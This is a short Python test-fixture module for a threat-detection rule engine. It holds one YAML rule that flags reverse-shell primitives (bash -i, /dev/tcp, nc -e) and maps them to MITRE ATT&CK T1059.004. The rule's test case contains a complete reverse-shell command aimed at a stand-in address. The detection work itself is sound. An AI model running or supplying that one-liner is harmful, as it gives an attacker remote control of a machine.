"""Rule texts shared by the unit tests."""

# The reference example rule (R0010), verbatim: tests assert line numbers in it.
SPEC_RULE = """\
rule_id: R0010
rule_version: 1
name: unix_shell_exec
description: Reverse shell or shell-exec primitives.
applies_to: [command]
match:
  field: command_text
  pattern: '(?i)(?:bash\\s+-i|/dev/tcp/|nc\\s+-e\\s)'
emits:
  - tactic: TA0002
    technique_id: T1059
    sub_technique_id: T1059.004
    confidence: 0.9
evidence_fields: [command_text]
tests:
  - event: {command_text: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
    expect: fire
  - event: {command_text: "ls -la"}
    expect: no_fire
"""
